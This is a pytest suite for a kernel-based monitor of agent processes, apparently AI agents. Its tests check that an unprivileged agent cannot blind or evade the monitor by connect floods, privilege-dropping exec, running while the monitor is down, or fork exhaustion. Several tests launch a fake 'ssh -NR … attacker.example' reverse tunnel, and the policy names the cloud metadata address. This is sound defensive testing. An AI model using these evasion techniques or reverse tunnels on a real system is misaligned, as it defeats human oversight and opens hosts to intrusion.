"""The agent cannot blind or slip past the monitor (issue: "The agent cannot blind, bypass,
freeze or crash the monitor", items 1, 3, 4 and 6). Every attack runs as an unprivileged
agent user (conftest.AGENT_UID, nobody), against a real monitor and the real kernel.

- a connect flood cannot crowd out the records userspace rules need (two rings, per-process
  aggregation, fail-closed when a record that needed a decision is lost anyway);
- a privilege-dropping exec (setpriv, chroot --userspec) by a root process that was only a
  pending candidate is recognised by the uid it now runs as;
- what the monitor adopts at start, and what it recovers from pins, it judges;
- a child the full process map cannot hold dies before it can exec or connect.
"""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from conftest import (
    AGENT_UID,
    Running,
    free_port,
    probes_for,
    require_root,
    start_as_agent,
    wait_exit,
)

from monitor.config.load import load_config_text
from monitor.model.events import Counter
from monitor.policy.load import load_policy_text

POLICY = """
mode: enforce
rules:
  - name: ssh-reverse-or-dynamic-forward
    event: exec
    action: kill
    match:
      ssh: [remote_forward, dynamic_forward, tunnel]
  # judged in userspace: connect records then need a decision (never aggregated away
  # when new, and a lost one fails its process closed)
  - name: metadata
    event: connect
    action: alert
    match:
      address: [169.254.169.254]
"""

FLOOD_C = r"""
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <sys/socket.h>
int main(int argc, char **argv) {
    int vary = atoi(argv[1]);
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET;
    a.sin_addr.s_addr = htonl(0x7f000001); /* 127.0.0.1: connect() on UDP sends nothing */
    for (unsigned i = 0;; i++) {
        a.sin_port = htons(vary ? 20000 + (i % 20000) : 9);
        connect(s, (struct sockaddr *)&a, sizeof a);
    }
}
"""


def agent_config(extra_agents: str = "", monitor: str = "") -> str:
    return (f"agents:\n{extra_agents}"
            f"  - name: hostile\n    match:\n      - uid: {AGENT_UID}\n"
            f"monitor:\n  tick_seconds: 0.25\n{monitor}")


def start(config: str, policy: str = POLICY) -> Running:
    cfg = load_config_text(config, "<hardening>")
    return Running(cfg, None, load_policy_text(policy, "<hardening policy>"),
                   probes=probes_for(cfg)).start()


def fake_ssh(d: Path) -> Path:
    prog = d / "ssh"
    prog.write_text("#!/bin/sh\nwhile :; do sleep 0.2; done\n")  # stays `ssh -R` to /proc
    prog.chmod(0o755)
    return prog


def killed(p: subprocess.Popen[bytes], timeout: float = 10) -> bool:
    return wait_exit(p, timeout) == -signal.SIGKILL


@pytest.fixture
def flooder(reachable_tmp: Path) -> Path:
    src = reachable_tmp / "flood.c"
    src.write_text(FLOOD_C)
    out = reachable_tmp / "flood"
    subprocess.run(["cc", "-O2", "-o", str(out), str(src)], check=True)
    return out


# --- 1. blinding by flood ------------------------------------------------------------------

@pytest.mark.parametrize("vary", [0, 1], ids=["one-destination", "many-destinations"])
def test_a_connect_flood_cannot_blind_the_userspace_rules(
        reachable_tmp: Path, flooder: Path, vary: int) -> None:
    """Two agent processes flood connect() on UDP sockets; meanwhile `ssh -R` is started ten
    times in a row: ten kills by the argv rule (it was 0 in 10 when one ring carried all)."""
    mon = start(agent_config(monitor="  ring_buffer_mib: 1"))
    ssh = fake_ssh(reachable_tmp)
    floods: list[subprocess.Popen[bytes]] = []
    try:
        kills = 0
        for _ in range(10):
            floods = [f for f in floods if f.poll() is None]
            while len(floods) < 2:  # a flooder failed closed: the flood goes on regardless
                floods.append(start_as_agent([str(flooder), str(vary)]))
            time.sleep(0.3)
            p = start_as_agent([str(ssh), "-NR", "9000:localhost:22", "attacker.example"])
            if killed(p):
                v = mon.wait_verdict(rule="ssh-reverse-or-dynamic-forward", pid=p.pid)
                kills += v["outcome"] == "killed"
        assert kills == 10
        counters = mon.monitor.probes.counters()
        assert counters[Counter.CONNECTS] > 100_000, counters  # the flood really was one
        if not vary:  # one destination over and over: aggregated in the kernel, per agent
            assert mon.monitor.report.agent_losses()["hostile"][1] > 1000
    finally:
        for f in floods:
            f.kill()
            f.wait()
        mon.stop()


# --- 3. privilege-dropping exec ------------------------------------------------------------

USERSPACE_MATCHERS = {
    "exe": "      - exe: /nonexistent/agent-*",
    "cmdline": "      - cmdline: '^never-matches-anything$'",
    "cgroup": "      - cgroup: /never/*",
}


@pytest.mark.parametrize("matcher", sorted(USERSPACE_MATCHERS))
@pytest.mark.parametrize("dropper", ["setpriv", "chroot"])
def test_a_privilege_dropping_exec_becomes_an_agent_whatever_userspace_matchers_exist(
        reachable_tmp: Path, matcher: str, dropper: str) -> None:
    """An untracked root process becomes a pending candidate at its exec (a userspace matcher
    exists); it then drops to the agent's uid and execs `ssh -R`: the uid matcher must make
    it an agent root there, and the argv rule must kill it."""
    extra = f"  - name: other\n    match:\n{USERSPACE_MATCHERS[matcher]}\n"
    mon = start(agent_config(extra_agents=extra))
    ssh = fake_ssh(reachable_tmp)
    argv = [str(ssh), "-NR", "9000:localhost:22", "attacker.example"]
    drop = {"setpriv": ["setpriv", f"--reuid={AGENT_UID}", f"--regid={AGENT_UID}",
                        "--clear-groups", "--", *argv],
            "chroot": ["chroot", f"--userspec={AGENT_UID}:{AGENT_UID}", "/", *argv]}
    try:
        p = subprocess.Popen(drop[dropper])
        assert killed(p), f"{dropper} -> ssh -R ran on"
        v = mon.wait_verdict(rule="ssh-reverse-or-dynamic-forward", pid=p.pid)
        assert v["agent"] == "hostile" and v["outcome"] == "killed"
    finally:
        mon.stop()


# --- 4. adopted and recovered processes are judged -----------------------------------------

def test_what_the_monitor_adopts_at_start_it_judges(reachable_tmp: Path) -> None:
    """`ssh -R` started while no monitor ran is killed once one starts and adopts it."""
    require_root()
    ssh = fake_ssh(reachable_tmp)
    p = start_as_agent([str(ssh), "-NR", "9000:localhost:22", "attacker.example"])
    time.sleep(0.2)
    mon = start(agent_config())
    try:
        assert killed(p, timeout=10), "an adopted ssh -R kept running"
        v = mon.wait_verdict(rule="ssh-reverse-or-dynamic-forward", pid=p.pid)
        assert v["agent"] == "hostile" and v["outcome"] == "killed"
    finally:
        if p.poll() is None:
            p.kill()
            p.wait()
        mon.stop()


def test_what_ran_in_the_gap_before_a_pinned_restart_is_judged(reachable_tmp: Path) -> None:
    """With pins the kernel tracks the agent while no monitor runs, but nothing reads the
    exec records: an `ssh -R` started in the gap dies when the monitor comes back."""
    from test_recovery import start as start_cli
    from test_recovery import wait_for

    from monitor.service import client

    require_root()
    pin = f"/sys/fs/bpf/awtest-gap-{os.getpid()}"
    sock = str(reachable_tmp / "ctl.sock")
    config = reachable_tmp / "config.yaml"
    config.write_text(f"agents:\n  - name: hostile\n    match:\n      - uid: {AGENT_UID}\n"
                      f"monitor:\n  control_socket: {sock}\n  pin_dir: {pin}\n"
                      f"  tick_seconds: 0.2\nmetrics: {{listen: '127.0.0.1:{free_port()}'}}\n")
    policy = reachable_tmp / "policy.yaml"
    policy.write_text(POLICY)
    log = reachable_tmp / "monitor.log"
    go = reachable_tmp / "go"
    ssh = fake_ssh(reachable_tmp)
    script = f"while [ ! -e {go} ]; do sleep 0.1; done; exec {ssh} -NR 9000:localhost:22 x.example"
    mon = start_cli(config, policy, sock, log)
    agent = None
    try:
        agent = start_as_agent(["/bin/sh", "-c", script])
        wait_for(lambda: any(s["root_pid"] == agent.pid for s in
                             client.request(sock, {"op": "status"})["sessions"]),
                 "agent session not seen")
        mon.send_signal(signal.SIGKILL)
        mon.wait()
        go.touch()
        time.sleep(0.5)
        assert agent.poll() is None, "ssh -R died without a monitor: the test proves nothing"
        mon = start_cli(config, policy, sock, log)
        assert killed(agent, timeout=10), "ssh -R started in the gap kept running"
    finally:
        if agent is not None and agent.poll() is None:
            agent.kill()
            agent.wait()
        mon.send_signal(signal.SIGTERM)
        mon.wait(timeout=20)
        subprocess.run([sys.executable, "-m", "monitor.cli.main", "detach", "--pin-dir", pin],
                       capture_output=True, timeout=30)


# --- 6. a full process map -----------------------------------------------------------------

FORKER = r"""
import os, signal, sys, time
marker = sys.argv[1]
children = []
for _ in range(1100):
    pid = os.fork()
    if pid == 0:
        signal.pause()
        os._exit(0)
    children.append(pid)
time.sleep(0.5)
# one more child that tries to run a program: it must never get there
pid = os.fork()
if pid == 0:
    os.execv("/bin/sh", ["/bin/sh", "-c", "touch " + marker])
_, status = os.waitpid(pid, 0)
dead = 0
for c in children:
    done, st = os.waitpid(c, os.WNOHANG)
    dead += done != 0 and os.WIFSIGNALED(st) and os.WTERMSIG(st) == signal.SIGKILL
print(dead, os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGKILL, flush=True)
for c in children:
    try:
        os.kill(c, signal.SIGKILL)
    except ProcessLookupError:
        pass
for c in children:
    try:
        os.waitpid(c, 0)
    except ChildProcessError:
        pass
"""


def test_children_a_full_process_map_cannot_hold_die_before_they_run_anything(
        reachable_tmp: Path) -> None:
    mon = start(agent_config(monitor="  max_processes: 1024"))
    marker = reachable_tmp / "ran"
    try:
        p = start_as_agent([sys.executable, "-c", FORKER, str(marker)],
                     stdout=subprocess.PIPE)
        out, _ = p.communicate(timeout=120)
        dead, last_killed = out.split()
        assert int(dead) >= 1100 + 1 - 1024, out  # every child past the map's size
        assert last_killed == b"True" and not marker.exists(), "an untracked child ran"
        counters = mon.monitor.probes.counters()
        assert counters[Counter.UNTRACKABLE] >= 1100 + 1 - 1024
        assert mon.monitor.report.agent_losses()["hostile"][0] >= 1100 + 1 - 1024
    finally:
        mon.stop()
